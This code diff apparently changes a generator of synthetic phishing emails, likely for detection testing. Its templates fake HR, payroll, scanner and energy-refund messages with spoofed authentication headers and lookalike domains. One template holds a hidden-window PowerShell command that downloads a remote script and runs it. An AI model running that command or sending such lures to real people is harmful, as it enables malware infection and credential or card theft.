@@ -62,7 +62,7 @@ const LURE_ENTRIES: EncodedEntry[] = [
           `scanner@corp.example`,
           directSend(),
         ),
-        subject: `Scanned document from ${s.colleague.name} – ${s.digits(3)} pages`,
+        subject: `Scanned document from ${s.colleague.name} – ${2 + s.below(9)} pages`,
         text: `Please open the attached file in your browser to view the scanned document.\n\nDevice: MFP-${s.digits(4)}\nSender: ${s.colleague.email}`,
         parts: [
           attach(
@@ -140,9 +140,10 @@ const LURE_ENTRIES: EncodedEntry[] = [
     template: 'policy-document-explorer-path',
     write: (s) => {
       const payload = `powershell -w h -c "iwr https://${s.host('cdn', 'files')}/${s.token(6)}.ps1|iex"`;
+      const domain = combosquat(s, 'corp.example');
       return {
-        headers: s.headers(`HR ${s.company}`, `hr@${combosquat(s, 'corp.example')}`, [
-          authResults(s.host('hr'), ['pass', 'none', 'none']),
+        headers: s.headers(`HR ${s.company}`, `hr@${domain}`, [
+          authResults(domain, ['pass', 'none', 'none']),
         ]),
         subject: 'Updated Remote Work Policy – acknowledgement required by Friday',
         html: page(
@@ -236,7 +237,7 @@ const LURE_ENTRIES: EncodedEntry[] = [
   // A Word file damaged on purpose, a meeting client's update, a flipbook.
   {
     kind: 'damaged-document',
-    template: 'damaged-docx-bonus-qr',
+    template: 'damaged-docx-bonus-link',
     write: (s) => {
       const link = `https://${s.host('hr', 'bonus')}/q/${s.token(8)}`;
       const domain = s.host('payroll');
@@ -245,12 +246,12 @@ const LURE_ENTRIES: EncodedEntry[] = [
           authResults(domain, ['none', 'none', 'none']),
         ]),
         subject: `${s.victim.first}, your 2026 annual bonus and benefits statement`,
-        text: `Hello ${s.victim.first},\n\nYour annual bonus and benefits statement is attached. If Word reports that the file is damaged, click "Yes" to recover its contents, then scan the code in the document to sign in and confirm your details.\n\nPayroll team`,
+        text: `Hello ${s.victim.first},\n\nYour annual bonus and benefits statement is attached. If Word reports that the file is damaged, click "Yes" to recover its contents, then open the link in the document to sign in and confirm your details.\n\nPayroll team`,
         parts: [
           damagedDocx(`Bonus_Statement_${s.victim.last}.docx`, [
             'Annual bonus and benefits statement 2026',
             `Employee: ${s.victim.name}`,
-            `Scan to view your statement: ${link}`,
+            `View your statement online: ${link}`,
           ]),
         ],
       };
@@ -525,12 +526,13 @@ const LURE_ENTRIES: EncodedEntry[] = [
     template: 'energy-overcharge-refund',
     write: (s) => {
       const domain = s.host('energy', 'refund');
+      const refund = s.money(80, 340);
       return {
         headers: s.headers('Energy Account Services', `refunds@${domain}`, [
           authResults(domain, ['pass', 'none', 'none']),
         ]),
-        subject: `You have been overcharged: £${s.money(80, 340)} refund pending`,
-        text: `Dear customer,\n\nFollowing a review of your meter readings we have found that you were overcharged for gas and electricity this year.\n\nRefund due: £${s.money(80, 340)}\n\nTo receive it to your bank card, complete the refund form before ${1 + s.below(27)} December:\nhttps://${domain}/claim/${s.token(8)}\n\nEnergy Account Services`,
+        subject: `You have been overcharged: £${refund} refund pending`,
+        text: `Dear customer,\n\nFollowing a review of your meter readings we have found that you were overcharged for gas and electricity this year.\n\nRefund due: £${refund}\n\nTo receive it to your bank card, complete the refund form before ${1 + s.below(27)} December:\nhttps://${domain}/claim/${s.token(8)}\n\nEnergy Account Services`,
       };
     },
   },
@@ -577,7 +579,7 @@ const LURE_ENTRIES: EncodedEntry[] = [
         s.stranger.name,
         quotedHistory(
           s.victim.name,
-          `${s.pick(['Monday', 'Tuesday', 'Wednesday'])}, 28 October 2026 10:14`,
+          'Wednesday, 28 October 2026 10:14',
           `${s.vendor.name} – open invoices ${s.company}`,
           [
             `Hi ${s.stranger.first},`,
